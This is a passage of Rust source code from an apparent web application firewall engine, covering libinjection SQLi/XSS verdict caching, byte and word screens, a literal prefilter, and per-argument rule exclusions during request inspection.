        Src::Colls(cs) => cs.contains(&coll) && key_matches(&sel.key, name),
        _ => false,
    }
}

/// A number as an operator reads its operand: decimal, surrounding whitespace ignored, 0 when
/// it is not a number.
pub(crate) fn parse_num(v: &[u8]) -> i64 {
    // Up to 18 ASCII digits (a count's or a size's text) cannot overflow and are what
    // `parse` reads: summed directly, without the UTF-8 check, trim and generic parse
    // (`parse_num_agrees_with_parse`).
    if !v.is_empty() && v.len() <= 18 && v.iter().all(u8::is_ascii_digit) {
        return v.iter().fold(0, |n, &d| n * 10 + i64::from(d - b'0'));
    }
    std::str::from_utf8(v)
        .ok()
        .and_then(|s| s.trim().parse::<i64>().ok())
        .unwrap_or(0)
}

fn compare(cmp: Cmp, a: i64, b: i64) -> bool {
    match cmp {
        Cmp::Eq => a == b,
        Cmp::Gt => a > b,
        Cmp::Lt => a < b,
        Cmp::Ge => a >= b,
        Cmp::Le => a <= b,
    }
}

fn valid_url_encoding(v: &[u8]) -> bool {
    // Each `%` found with `memchr` (a 1 KB form body holds a few dozen) rather than by testing
    // every byte; a valid escape's two hex digits hold no `%`, so searching again after them
    // finds what stepping over them byte by byte does (`url_encoding_check_agrees_with_the_byte_loop`).
    let mut from = 0;
    while let Some(at) = v
        .get(from..)
        .and_then(|rest| memchr::memchr(b'%', rest))
        .map(|p| from + p)
    {
        let ok = v.get(at + 1).is_some_and(u8::is_ascii_hexdigit) && v.get(at + 2).is_some_and(u8::is_ascii_hexdigit);
        if !ok {
            return false;
        }
        from = at + 3;
    }
    true
}

/// A value libinjection's SQLi detector cannot flag: a letter or `_` followed by letters,
/// digits and `_`. The tokenizer reads it as one word (none of its delimiters, quotes, dots or
/// backticks occur), a one-token fingerprint is that word's type, and the only one-token
/// fingerprint in libinjection's list is `X`, which folding gives only to two or more tokens.
/// Skipping the detector for such values (most identifiers and codes in API traffic) changes
/// no verdict; `plain_words_are_never_sqli` checks it.
fn plain_word(v: &[u8]) -> bool {
    match v.split_first() {
        Some((first, rest)) => {
            (first.is_ascii_alphabetic() || *first == b'_')
                && rest.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
        }
        None => false,
    }
}

/// A value libinjection's SQLi detector cannot flag: a [`plain_word`] followed by one or more
/// groups of `[`, letters, digits and `_`, and `]` (form-encoded array and map keys:
/// `expand[]`, `card[number]`, `metadata[order_id]`). The tokenizer reads the word as one word
/// (`[` is one of its delimiters), whose type is its keyword's or a bareword's, and each group as
/// one bracketed bareword up to its `]`; no quote, `#` or `-` is in the value, so only the plain
/// context is tried. None of the fingerprints of a keyword or bareword followed by barewords is
/// in libinjection's list; `bracketed_words_are_never_sqli` checks every keyword of its table
/// with up to seven groups, and random values around the shape.
fn bracketed_word(v: &[u8]) -> bool {
    // The shape ends with `]`: most other values are rejected by their last byte.
    if v.last() != Some(&b']') {
        return false;
    }
    let Some(open) = memchr::memchr(b'[', v) else {
        return false;
    };
    let (head, mut rest) = v.split_at(open);
    if !plain_word(head) {
        return false;
    }
    while let Some((b'[', inner)) = rest.split_first() {
        let n = inner
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        match inner.get(n) {
            Some(b']') => rest = &inner[n + 1..],
            _ => return false,
        }
    }
    rest.is_empty()
}

/// A value libinjection's SQLi detector cannot flag: one or more groups of `/` and a
/// [`plain_word`] (`/v1/payment_intents`, the API's paths). The tokenizer reads each `/`, not
/// followed by `*`, as an operator and each word (`/` is one of its delimiters) as one word
/// whose type is its keyword's or a bareword's; no keyword holds a `/` and a space, so no two
/// tokens merge into one, and no quote, `#` or `-` is in the value, so only the plain context is
/// tried. None of the fingerprints of operators alternating with keywords or barewords is in
/// libinjection's list; `slash_words_are_never_sqli` checks every keyword of its table at each
/// of four places, every sequence of up to four of its keyword types, and random paths.
fn slash_words(v: &[u8]) -> bool {
    match v.split_first() {
        Some((b'/', rest)) => rest.split(|b| *b == b'/').all(plain_word),
        _ => false,
    }
}

/// A value of decimal digits only (amounts, counts, timestamps): libinjection's tokenizer reads
/// it as one number, whose one-token fingerprint `1` is not in its list (and with no quote in
/// the value, no quoted context is tried). `plain_numbers_are_never_sqli` checks it.
fn plain_number(v: &[u8]) -> bool {
    !v.is_empty() && v.iter().all(u8::is_ascii_digit)
}

/// Whether a value of bytes within `raw` may match the link's operator after `pipeline`, the
/// link's transformations (false: certainly not).
fn link_admits(pipeline: &[Transform], link: &Link, raw: ByteSet) -> bool {
    let may_match = |x: &ByteSet| {
        link.screen.as_ref().is_none_or(|s| s.admits(x)) && link.inert.as_ref().is_none_or(|i| !x.is_subset(i))
    };
    if link.multi {
        // multiMatch: the operator sees the value before and after each transformation.
        let mut x = raw;
        if may_match(&x) {
            return true;
        }
        for t in pipeline {
            x = t.byte_image(x);
            if may_match(&x) {
                return true;
            }
        }
        false
    } else {
        may_match(&pipeline_image(pipeline, raw))
    }
}

/// `n` in decimal, as `n.to_string()` writes it, in `buf` (a count or size is tested as its
/// text without allocating a string for it; `decimal_is_to_string`).
fn decimal(n: usize, buf: &mut [u8; 20]) -> &[u8] {
    let mut n = n;
    let mut at = buf.len();
    loop {
        at -= 1;
        if let Some(d) = buf.get_mut(at) {
            *d = b'0' + (n % 10) as u8;
        }
        n /= 10;
        if n == 0 || at == 0 {
            break;
        }
    }
    buf.get(at..).unwrap_or_default()
}

/// The bytes every name a key selects holds (lower case), when [`key_matches`] rejects a name
/// without them: a key expression's required bytes, unless the key is a whole anchored
/// literal (matched by its prefix alone); `None` when there are none.
fn key_required(key: &Key) -> Option<ByteSet> {
    match key {
        Key::Regex(_, hint) if hint.prefix.is_none() || !hint.whole => Some(hint.required).filter(|r| !r.is_empty()),
        _ => None,
    }
}

/// Whether a name of the bytes `name` may hold the `required` bytes ([`key_required`]) once
/// lower-cased (false: the key does not select it).
fn admits_name(required: ByteSet, name: ByteSet) -> bool {
    required.is_subset(&name.lowercased())
}

/// The bytes of a `setvar` name with one macro `m` (as [`Eval::expand_one_into`] builds it),
/// from the bytes of the matched value's name and value (each computed only when the macro
/// needs it), without building the name; `None` for a macro of a transaction variable.
fn recorded_name_bytes(
    m: &OneMacro,
    coll: Option<Coll>,
    name: impl FnOnce() -> ByteSet,
    value: impl FnOnce() -> ByteSet,
) -> Option<ByteSet> {
    match m.kind {
        MacroKind::Tx(_) => None,
        MacroKind::MatchedName => {
            let mut b = m.text.union(coll_name_bytes(coll)).union(name());
            b.insert(b':');
            Some(b)
        }
        MacroKind::MatchedValue => Some(m.text.union(value())),
    }
}

/// libinjection's SQLi verdict, `libinjectionrs::detect_sqli(value).is_injection()`: the same
/// detection (`SqliState::detect` with the flags `detect_sqli` passes), without the fingerprint
/// that `detect_sqli` then computes again, tokenizing the value a second time, for its result's
/// `fingerprint` field (`sqli_verdicts_are_detect_sqli_verdicts`).
fn detect_sqli(value: &[u8]) -> bool {
    libinjectionrs::SqliState::new(value, libinjectionrs::SqliFlags::FLAG_NONE).detect()
}

/// One of libinjection's two detectors, as a [`Verdicts`] key names it.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Detector {
    /// `@detectSQLi`: [`detect_sqli`].
    Sqli,
    /// `@detectXSS`: `libinjectionrs::detect_xss`.
    Xss,
}

impl Detector {
    /// The detector's verdict on `value`, computed (a panic read as no match): a pure function
    /// of the detector and the value's bytes, the engine passing no other state or flag.
    fn run(self, value: &[u8]) -> bool {
        match self {
            Detector::Sqli => guarded(|| detect_sqli(value)),
            Detector::Xss => guarded(|| libinjectionrs::detect_xss(value).is_injection()),
        }
    }
}

/// Longest value whose verdict [`Verdicts`] keeps (a User-Agent, a path, an e-mail address
/// are shorter; a longer value is rarely the same from request to request).
const MAX_VERDICT_KEY: usize = 256;

/// Most verdicts a thread keeps (at most 8 KiB of keys a thread).
const VERDICT_SLOTS: usize = 32;

/// libinjection verdicts kept per thread between inspections, keyed by the detector and the
/// value's full bytes (compared byte for byte, lengths first): the User-Agent of an SDK, the
/// request path and an argument name repeat from request to request, and a verdict costs
/// libinjection some 10 K instructions where a look-up costs a few hundred at most. The
/// engine uses only the verdict (no fingerprint, no capture), so a kept verdict is what a
/// fresh run gives. Up to [`VERDICT_SLOTS`] entries, replaced round robin once full.
#[derive(Default)]
struct Verdicts {
    /// (detector, value, verdict), each value at most [`MAX_VERDICT_KEY`] bytes.
    entries: Vec<(Detector, Vec<u8>, bool)>,
    /// The entry the next new verdict replaces once `entries` is full.
    next: usize,
}

thread_local! {
    static VERDICTS: std::cell::RefCell<Verdicts> = const {
        std::cell::RefCell::new(Verdicts { entries: Vec::new(), next: 0 })
    };
}

impl Verdicts {
    /// The kept verdict of `detector` on exactly `value`, if any.
    fn find(&self, detector: Detector, value: &[u8]) -> Option<bool> {
        self.entries
            .iter()
            .find(|(d, v, _)| v.len() == value.len() && *d == detector && v.as_slice() == value)
            .map(|e| e.2)
    }

    /// Keeps `hit` as `detector`'s verdict on `value` (at most [`MAX_VERDICT_KEY`] bytes),
    /// replacing the oldest entry once full.
    fn insert(&mut self, detector: Detector, value: &[u8], hit: bool) {
        if self.entries.len() < VERDICT_SLOTS {
            self.entries.push((detector, value.to_vec(), hit));
            return;
        }
        let slot = self.next % VERDICT_SLOTS;
        self.next = (slot + 1) % VERDICT_SLOTS;
        let e = &mut self.entries[slot];
        e.0 = detector;
        e.1.clear();
        e.1.extend_from_slice(value);
        e.2 = hit;
    }

    /// `detector`'s verdict on `value`: this thread's kept one, else computed and kept.
    /// Computed without keeping for a value longer than [`MAX_VERDICT_KEY`] or when the thread
    /// is ending.
    fn verdict(detector: Detector, value: &[u8]) -> bool {
        if value.len() > MAX_VERDICT_KEY {
            return detector.run(value);
        }
        VERDICTS
            .try_with(|c| {
                if let Some(hit) = c.try_borrow().ok().and_then(|c| c.find(detector, value)) {
                    return hit;
                }
                let hit = detector.run(value);
                if let Ok(mut c) = c.try_borrow_mut() {
                    c.insert(detector, value, hit);
                }
                hit
            })
            .unwrap_or_else(|_| detector.run(value))
    }
}

fn guarded(f: impl FnOnce() -> bool + std::panic::UnwindSafe) -> bool {
    // libinjection is a port of C code; a panic on odd input must not take the proxy down.
    std::panic::catch_unwind(f).unwrap_or(false)
}

impl<'a> Eval<'a> {
    /// The evaluation state of one inspection of `parsed` (`exhaustive`: every rule on every
    /// value, without the prefilter).
    fn new(waf: &'a Waf, p: &'a Parsed, exhaustive: bool) -> Eval<'a> {
        let npipes = waf.rules.pipelines.len();
        let (slots, gen) = SlotTable::take(p.items.len() * npipes);
        let Scratch {
            mut entries,
            mut child_head,
            children,
            cands,
            cand_start,
            mut masks,
            mut bytes,
            mut opens,
            pf,
            tx_buf,
            tx,
            value_buf,
        } = Scratch::take();
        // Entry `i` is item `i`'s raw value (`None`), so that the raw value's entry needs no
        // look-up: the transformed values follow.
        entries.resize(p.items.len(), None);
        child_head.resize(p.items.len(), EMPTY);
        let nv: Vec<(&[u8], &[u8])> = p.items.iter().map(|i| (p.name(i), p.value(i))).collect();
        masks.extend(nv.iter().map(|(_, v)| value_mask(v)));
        bytes.extend(nv.iter().map(|(_, v)| ByteSet::of(v)));
        opens.resize(p.items.len(), 0);
        Eval {
            waf,
            p,
            tx,
            value_buf,
            slots,
            gen,
            spare: Spare::take(),
            entries,
            child_head,
            children,
            item_excl: Vec::new(),
            excl_bits: Vec::new(),
            excl_words: waf.rules.rules.len().div_ceil(64),
            cands,
            cand_start,
            masks,
            bytes,
            opens,
            coll_bytes: [None; Coll::COUNT],
            exhaustive,
            keep_all: false,
            detected: Vec::new(),
            // About one recorded `setvar` per argument name (921170's counters).
            pending: Vec::with_capacity(p.items.len()),
            name_buf: Vec::new(),
            ranges: coll_ranges(p),
            nv,
            removed_rules: Vec::new(),
            removed_targets: Vec::new(),
            pf_scratch: pf,
            tx_buf,
        }
    }

    /// The vectors to keep for the next inspection on this thread.
    fn into_scratch(self) -> Scratch {
        Scratch {
            entries: self.entries,
            child_head: self.child_head,
            children: self.children,
            cands: self.cands,
            cand_start: self.cand_start,
            masks: self.masks,
            bytes: self.bytes,
            opens: self.opens,
            pf: self.pf_scratch,
            tx_buf: self.tx_buf,
            tx: self.tx,
            value_buf: self.value_buf,
        }
    }

    /// Which configured exclusions apply to each argument, as indices of sets in `excl_bits`.
    #[inline(never)]
    fn exclusions(&mut self, req: &HttpRequest<'_>) {
        let words = self.excl_words;
        self.excl_bits.resize(words, 0);
        self.item_excl = vec![0; self.p.items.len()];
        let live: Vec<usize> = self
            .waf
            .config
            .exclusions
            .iter()
            .enumerate()
            .filter(|(_, ex)| {
                glob(ex.path.as_bytes(), self.p.path.as_bytes())
                    && (ex.methods.is_empty() || ex.methods.iter().any(|m| m.eq_ignore_ascii_case(req.method)))
            })
            .map(|(i, _)| i)
            .collect();
        if live.is_empty() {
            return;
        }
        let mut keys: Vec<Vec<bool>> = vec![vec![false; live.len()]];
        let mut key = vec![false; live.len()];
        // An argument's name item has the same name as its value item, at the same position
        // in its collection: decide once per argument.
        let names_of = |c: Coll| match c {
            Coll::ArgsGet => Some(Coll::ArgsGetNames),
            Coll::ArgsPost => Some(Coll::ArgsPostNames),
            _ => None,
        };
        let len = |c: Coll| self.range(c).len();
        let paired = |c: Coll| names_of(c).is_some_and(|n| len(n) == len(c));
        let (get_paired, post_paired) = (paired(Coll::ArgsGet), paired(Coll::ArgsPost));
        for (i, item) in self.p.items.iter().enumerate() {
            let from_value = match item.coll {
                Coll::ArgsGet | Coll::ArgsPost => false,
                Coll::ArgsGetNames if get_paired => true,
                Coll::ArgsPostNames if post_paired => true,
                Coll::ArgsGetNames | Coll::ArgsPostNames => false,
                _ => continue,
            };
            if from_value {
                let values = if item.coll == Coll::ArgsGetNames {
                    Coll::ArgsGet
                } else {
                    Coll::ArgsPost
                };
                let first_name = self.range(item.coll).start;
                let first_value = self.range(values).start;
                self.item_excl[i] = self.item_excl[first_value + (i - first_name)];
                continue;
            }
            for (k, &e) in live.iter().enumerate() {
                key[k] = self.waf.excl_fields[e].iter().any(|f| f.matches(self.p.name(item)));
            }
            let idx = match keys.iter().position(|k| *k == key) {
                Some(idx) => idx,
                None => {
                    let from = self.excl_bits.len();
                    self.excl_bits.resize(from + words, 0);
                    let bits = &mut self.excl_bits[from..];
                    for (k, &e) in live.iter().enumerate() {
                        if key[k] {
                            for (b, x) in bits.iter_mut().zip(&self.waf.excl_rules[e]) {
                                *b |= x;
                            }
                        }
                    }
                    keys.push(key.clone());
                    keys.len() - 1
                }
            };
            self.item_excl[i] = u16::try_from(idx).unwrap_or(u16::MAX);
        }
    }

    /// The indices in `p.items` of a collection's items.
    fn range(&self, c: Coll) -> std::ops::Range<usize> {
        let (start, end) = self.ranges[c as usize];
        start as usize..end as usize
    }

    fn excluded(&self, rule: usize, item: usize) -> bool {
        match self.item_excl.get(item) {
            Some(&0) | None => false,
            Some(&s) => self
                .excl_bits
                .get(usize::from(s) * self.excl_words + rule / 64)
                .is_some_and(|w| w & (1 << (rule % 64)) != 0),
        }
    }

    /// The literal prefilter: records in `cands` each (rule, item) where the item's value,
    /// transformed by one of the rule's pipelines, holds one of the rule's atoms.
    #[inline(never)]
    fn prefilter(&mut self) {
        let rs = &self.waf.rules;
        let pf = &rs.prefilter;
        if pf.ac.is_none() && pf.byte_set.is_empty() {
            return;
        }
        let p: &'a Parsed = self.p;
        // The vectors below come empty from this thread's `Scratch` and go back to it.
        let PrefilterScratch {
            mut out_of,
            mut touched,
            mut triggered,
            mut decoded_masks,
            mut decoded,
            mut outs,
            mut found,
            mut stamp,
            mut start,
            mut sorted,
        } = std::mem::take(&mut self.pf_scratch);
        // Per pipeline: the index in `outs` of its output for the current item. A pipeline
        // the item's mask does not trigger leaves the value unchanged up to ASCII case, and
        // atoms are matched without case: its output is the raw value (0), the default. A
        // pipeline of another collection may read as 0 too: its rules do not target this
        // collection, which the `in_coll` test below checks.
        out_of.resize(rs.pipelines.len(), 0);
        // The pipelines with a `base64Decode` give no output until an item's loop places one:
        // `base64Decode` triggers on every value, so every item of a collection whose rules
        // read such a pipeline visits it below, unless its decoded values are inert.
        mark_b64(&mut out_of, &pf.b64_pipes);
        // Pipelines whose `out_of` the current item set, to put back to 0 (`touched`).
        triggered.resize(pf.pipe_words, 0);
        // `decoded_masks`: (entry, its value mask) for the decoded values of the current item.
        // `outs`: distinct outputs of the current item (`None` is the raw value).
        // Per rule: 1 + the last item it was recorded for.
        stamp.resize(rs.rules.len(), 0);
        for (item, it) in p.items.iter().enumerate() {
            let c = it.coll;
            if pf.coll_pipes[c as usize].is_empty() {
                continue;
            }
            let raw: &'a [u8] = self.nv[item].1;
            let mask = self.mask(item);
            outs.clear();
            outs.push(None);
            decoded_masks.clear();
            // The pipelines of this collection that the mask triggers, in index order.
            triggered.fill(0);
            let mut bits = mask;
            while bits != 0 {
                let bit = bits.trailing_zeros() as usize;
                bits &= bits - 1;
                for (t, x) in triggered.iter_mut().zip(&pf.bit_pipes[c as usize * 32 + bit]) {
                    *t |= x;
                }
            }
            // The pipelines with a `base64Decode` give nothing when the decoded raw value is
            // inert ([`crate::rules::Prefilter::decoded_inert`]): marked without an output.
            if triggered.iter().zip(&pf.b64_pipes).any(|(t, b)| t & b != 0)
                && match (mask & pf.b64_before == 0, &pf.b64_inputs) {
                    // Every `base64Decode` reads the raw value.
                    (true, _) => pf.decoded_inert(raw, &mut decoded, &mut self.spare),
                    // Each reads one of these values, computed (and cached) for the pipelines.
                    (false, Some(inputs)) => inputs.iter().all(|&q| {
                        let e = self.entry(item, q);
                        let x = self.entries[e].as_deref().unwrap_or(raw);
                        pf.decoded_inert(x, &mut decoded, &mut self.spare)
                    }),
                    (false, None) => false,
                }
            {
                // Left without an output (as marked above).
                for (t, b) in triggered.iter_mut().zip(&pf.b64_pipes) {
                    *t &= !b;
                }
            }
            // The item visits pipelines with a `base64Decode` (its decoded values are not inert).
            let b64_live = triggered.iter().zip(&pf.b64_pipes).any(|(t, b)| t & b != 0);
            let pipes = triggered.iter().enumerate().flat_map(|(w, &word)| {
                let mut word = word;
                std::iter::from_fn(move || {
                    (word != 0).then(|| {
                        let b = word.trailing_zeros() as usize;
                        word &= word - 1;
                        w * 64 + b
                    })
                })
            });
            // The entry and output of the previous pipeline of this item.
            let mut last = (usize::MAX, 0);
            for pipe in pipes {
                touched.push(pipe);
                if raw.len() < pf.pipe_min_input[pipe] {
                    // Too short to hold any atom of the rules reading this output.
                    out_of[pipe] = u16::MAX;
                    continue;
                }
                let e = match pf.pipe_through[pipe] {
                    Some((upto, trigger)) => {
                        // After `base64Decode`: the rest of the pipeline leaves a decoded
                        // value without its trigger bits unchanged up to ASCII case.
                        let d = self.entry(item, upto);
                        let mask = match decoded_masks.iter().find(|(x, _)| *x == d) {
                            Some(&(_, m)) => m,
                            None => {
                                let m = value_mask(self.entries[d].as_deref().unwrap_or(raw));
                                decoded_masks.push((d, m));
                                m
                            }
                        };
                        if mask & trigger == 0 {
                            d
                        } else {
                            self.entry(item, pipe)
                        }
                    }
                    None => self.entry(item, pipe),
                };
                let bytes = self.entries[e].as_deref().unwrap_or(raw);
                let same = if self.entries[e].is_none() {
                    // The raw value itself.
                    Some(0)
                } else if last.0 == e {
                    // The previous pipeline's output (consecutive pipelines often share one).
                    Some(last.1)
                } else {
                    // The same entry (found without comparing bytes), else an output equal
                    // up to case (outputs are distinct up to case, so at most one is).
                    outs.iter().position(|o| *o == Some(e)).or_else(|| {
                        outs.iter().position(|o| {
                            let ob = o.and_then(|x| self.entries[x].as_deref()).unwrap_or(raw);
                            ob.eq_ignore_ascii_case(bytes)
                        })
                    })
                };
                let j = match same {
                    Some(j) => j,
                    None => {
                        outs.push(Some(e));
                        outs.len() - 1
                    }
                };
                last = (e, j);
                out_of[pipe] = j as u16;
            }
            for (j, o) in outs.iter().enumerate() {
                let set = match o {
                    None => self.bytes(item),
                    Some(x) => ByteSet::of(self.entries[*x].as_deref().unwrap_or(raw)),
                };
                let bytes = o.and_then(|x| self.entries[x].as_deref()).unwrap_or(raw);
                found.clear();
                pf.scan_coll(c as usize, bytes, &mut found);
                found.sort_unstable();
                found.dedup();
                let present = set.intersection(pf.byte_set);
                if !present.is_empty() {
                    present.for_each(|b| found.push(pf.byte_atoms[usize::from(b)]));
                    // Both cases of a letter are the same atom.
                    found.sort_unstable();
                    found.dedup();
                }
                if found.is_empty() {
                    continue;
                }
                // The item's set of excluded rules ([`Eval::excluded`]), found once for the
                // output's atoms.
                let excl: &[u64] = match self.item_excl.get(item) {
                    Some(&s) if s != 0 => {
                        let at = usize::from(s) * self.excl_words;
                        self.excl_bits.get(at..at + self.excl_words).unwrap_or_default()
                    }
                    _ => &[],
                };
                let groups = &self.waf.atom_groups;
                for &a in &found {
                    // The active rules with this atom that read this collection, by pipeline.
                    for &(pipe, lo, hi) in groups.of(c, a) {
                        if usize::from(out_of[pipe as usize]) != j {
                            continue;
                        }
                        for &r in &groups.rules[lo as usize..hi as usize] {
                            let r = r as usize;
                            if stamp[r] != item as u32 + 1 && excl.get(r / 64).is_none_or(|w| w & (1 << (r % 64)) == 0)
                            {
                                stamp[r] = item as u32 + 1;
                                self.cands.push((r as u32, item as u32));
                            }
                        }
                    }
                }
            }
            for pipe in touched.drain(..) {
                out_of[pipe] = 0;
            }
            if b64_live {
                // Their outputs were placed for this item: none again for the next.
                mark_b64(&mut out_of, &pf.b64_pipes);
            }
        }
        // Group by rule (a counting sort: the pairs are already in item order per rule).
        start.resize(rs.rules.len() + 1, 0);
        for &(r, _) in &self.cands {
            start[r as usize + 1] += 1;
        }
        for r in 0..rs.rules.len() {
            start[r + 1] += start[r];
        }
        self.cand_start.clear();
        self.cand_start.extend_from_slice(&start);
        sorted.resize(self.cands.len(), (0, 0));
        for &(r, i) in &self.cands {
            let at = &mut start[r as usize];
            sorted[*at as usize] = (r, i);
            *at += 1;
        }
        std::mem::swap(&mut self.cands, &mut sorted);
        self.pf_scratch = PrefilterScratch {
            out_of,
            touched,
            triggered,
            decoded_masks,
            decoded,
            outs,
            found,
            stamp,
            start,
            sorted,
        };
    }

    /// The bytes of an item's raw value (computed for every item when the inspection starts,
    /// as its mask is).
    fn bytes(&self, item: usize) -> ByteSet {
        self.bytes[item]
    }

    /// The byte screen ([`crate::screen`]): false when the item's value, after the link's
    /// transformations, cannot hold the bytes its operator needs, so the operator cannot match.
    fn admits(&mut self, link: &Link, item: usize) -> bool {
        if link.screen.is_none() && link.inert.is_none() {
            return true;
        }
        let raw = self.bytes(item);
        self.admits_bytes(link, raw)
    }

    /// [`Eval::admits`] for every item of a collection at once: false when the screen rejects
    /// the union of their bytes. The screen test is monotone (a superset of an admitted set is
    /// admitted) and so is every byte image, so it then rejects each item's bytes too
    /// (`collection_screens_imply_item_screens`).
    fn coll_admits(&mut self, link: &Link, c: Coll) -> bool {
        if link.screen.is_none() && link.inert.is_none() {
            return true;
        }
        let all = match self.coll_bytes[c as usize] {
            Some(b) => b,
            None => {
                let mut b = ByteSet::EMPTY;
                for item in self.range(c) {
                    b = b.union(self.bytes(item));
                }
                self.coll_bytes[c as usize] = Some(b);
                b
            }
        };
        self.admits_bytes(link, all)
    }

    /// Whether a value of bytes within `raw` may match the link's operator after its
    /// transformations (false: certainly not).
    fn admits_bytes(&self, link: &Link, raw: ByteSet) -> bool {
        link_admits(&self.waf.rules.pipelines[link.pipeline], link, raw)
    }

    /// The word screen ([`crate::words`]): false when the expression cannot match the item's
    /// raw value (which its link reads untransformed).
    fn words_admit(&mut self, w: &crate::words::WordScreen, item: usize) -> bool {
        let bytes = self.bytes(item);
        let value = self.nv[item].1;
        // The cheap tests first: a metacharacter's byte, then the expression's own test (where
        // it admits, the rest of `open` does not matter).
        if crate::words::hot(&bytes) || w.admits(value, &bytes) {
            return true;
        }
        match self.opens[item] {
            0 => {
                let o = crate::words::open(value, &bytes);
                self.opens[item] = 1 + u8::from(o);
                o
            }
            x => x == 2,
        }
    }

    /// The special-byte mask of an item's raw value ([`value_mask`]), computed for every item
    /// when the inspection starts: a plain load here, where a test for "not computed yet" on
    /// each of the many calls (every transformation-cache look-up starts with one) cost more
    /// than the masks of the few items nothing asks for.
    fn mask(&self, item: usize) -> u32 {
        self.masks[item]
    }

    /// Runs one rule; on a match, the name of what matched. `only` restricts the first link to
    /// the items of `cands[lo..hi]` (the prefilter found the rule's atoms nowhere else).
    #[inline(always)]
    fn rule(&mut self, rule: &'a Rule, only: Option<(usize, usize)>) -> Option<String> {
        let mut prev: Vec<Hit> = Vec::new();
        // The first link's first match names the rule's target, written out only when the
        // whole chain matches.
        let mut first: Option<(Option<Coll>, Vec<u8>)> = None;
        for (i, link) in rule.links.iter().enumerate() {
            // Every match is passed on only to a next link that reads the matches (else the
            // first one, which names the target, is enough); the reference path passes every
            // match to every next link, so the corpus test compares both.
            self.keep_all = rule
                .links
                .get(i + 1)
                .is_some_and(|next| self.exhaustive || next.targets.iter().any(|t| matches!(t.src, Src::Matched)));
            let mut hits = self.link(rule, link, &prev, if i == 0 { only } else { None });
            if hits.is_empty() {
                return None;
            }
            if first.is_none() {
                let h = &mut hits[0];
                first = Some((
                    h.coll,
                    if i + 1 < rule.links.len() {
                        h.name.clone()
                    } else {
                        std::mem::take(&mut h.name)
                    },
                ));
            }
            prev = hits;
        }
        first.map(|(coll, name)| {
            if name.is_empty() {
                coll_name(coll).to_owned()
            } else {
                format!("{}:{}", coll_name(coll), String::from_utf8_lossy(&name))
            }
        })
    }

    /// Evaluates one link of a rule on its targets; its matches. Inlined into [`Eval::rule`],
    /// itself inlined into [`Waf::run`]'s loop over the rules: as calls they cost more (about
    /// 9.5 K instructions on the 1 KB request) in entries, exits and arguments than their code
    /// costs in the one loop that reaches them.
    #[inline(always)]
    fn link(&mut self, rule: &'a Rule, link: &'a Link, prev: &[Hit], only: Option<(usize, usize)>) -> Vec<Hit> {
        let mut hits = Vec::new();
        for sel in &link.targets {
            if sel.count {
                if matches!(sel.src, Src::Tx) {
                    self.flush_for(&sel.key);
                }
                let n = self.count(sel, prev);
                let mut digits = [0u8; 20];
                let v = Val {
                    coll: None,
                    item: None,
                    name: b"",
                    value: decimal(n, &mut digits),
                };
                self.test(link, &v, &mut hits);
                continue;
            }
            match &sel.src {
                Src::Colls(cs) => {
                    for &c in cs {
                        let removed = self
                            .removed_targets
                            .iter()
                            .any(|(tag, colls)| colls.contains(&c) && rule.tags.iter().any(|t| t == tag));
                        if removed {
                            continue;
                        }
                        let std::ops::Range { start, end } = self.range(c);
                        if start == end || (!self.exhaustive && !self.coll_admits(link, c)) {
                            // No item, or the screen rejects every item of the collection.
                            continue;
                        }
                        // With candidates, visit only those in this collection (in item order).
                        let (lo, hi) = match only {
                            Some((lo, hi)) => {
                                let cs = &self.cands[lo..hi];
                                (
                                    lo + cs.partition_point(|&(_, i)| (i as usize) < start),
                                    lo + cs.partition_point(|&(_, i)| (i as usize) < end),
                                )
                            }
                            None => (start, end),
                        };
                        for k in lo..hi {
                            let idx = if only.is_some() { self.cands[k].1 as usize } else { k };
                            let (name, value) = self.nv[idx];
                            if !key_matches(&sel.key, name) {
                                continue;
                            }
                            if link.excludes.iter().any(|x| sel_covers(x, c, name)) {
                                continue;
                            }
                            if self.excluded(rule.index, idx) {
                                continue;
                            }
                            if let (Some(w), false) = (&link.words, self.exhaustive) {
                                if !self.words_admit(w, idx) {
                                    continue;
                                }
                            }
                            if !self.exhaustive && !self.admits(link, idx) {
                                continue;
                            }
                            let v = Val {
                                coll: Some(c),
                                item: Some(idx),
                                name,
                                value,
                            };
                            self.test(link, &v, &mut hits);
                        }
                    }
                }
                Src::Tx => {
                    self.flush_for(&sel.key);
                    // Copied first (a test may set variables), into the buffers of earlier
                    // reads: `buf[..n]` are the selected variables.
                    let mut buf = std::mem::take(&mut self.tx_buf);
                    let n = tx_copy(&self.tx, &self.waf.tx, &sel.key, &mut buf);
                    for (k, v) in &buf[..n] {
                        let val = Val {
                            coll: None,
                            item: None,
                            name: k.as_bytes(),
                            value: v,
                        };
                        self.test(link, &val, &mut hits);
                    }
                    self.tx_buf = buf;
                }
                Src::Matched => {
                    for h in prev {
                        let val = Val {
                            coll: h.coll,
                            item: None,
                            name: &h.name,
                            value: &h.value,
                        };
                        self.test(link, &val, &mut hits);
                    }
                }
                other => {
                    let mut digits = [0u8; 20];
                    let s: &[u8] = match other {
                        Src::BodyProcessor => self.p.body_kind.name().as_bytes(),
                        Src::BodyLength => decimal(
                            self.p
                                .items
                                .iter()
                                .find(|i| i.coll == Coll::Body)
                                .map_or(0, |i| self.p.value(i).len()),
                            &mut digits,
                        ),
                        Src::ArgsCombinedSize => decimal(self.p.args_combined_size, &mut digits),
                        _ => b"0",
                    };
                    if matches!(other, Src::BodyProcessor) && self.p.body_kind == BodyKind::None {
                        continue;
                    }
                    let val = Val {
                        coll: None,
                        item: None,
                        name: b"",
                        value: s,
                    };
                    self.test(link, &val, &mut hits);
                }
            }
        }
        hits
    }

    /// A transaction variable: set by this request, else the table's or configuration's.
    fn tx_get(&self, name: &str) -> Option<&[u8]> {
        self.tx.get(name).or_else(|| self.waf.tx.get(name)).map(Vec::as_slice)
    }

    /// Calls `f` on each transaction variable a key selects, in name order (see [`tx_select`]).
    fn tx_each<'m>(&'m self, key: &'m Key, f: impl FnMut(&'m String, &'m Vec<u8>)) {
        tx_select_known(&self.tx, &self.waf.tx, key, f);
    }

    fn count(&self, sel: &Sel, prev: &[Hit]) -> usize {
        match &sel.src {
            Src::Colls(cs) => cs
                .iter()
                .map(|&c| {
                    self.p.items[self.range(c)]
                        .iter()
                        .filter(|i| key_matches(&sel.key, self.p.name(i)))
                        .count()
                })
                .sum(),
            Src::Tx => {
                let mut n = 0;
                self.tx_each(&sel.key, |_, _| n += 1);
                n
            }
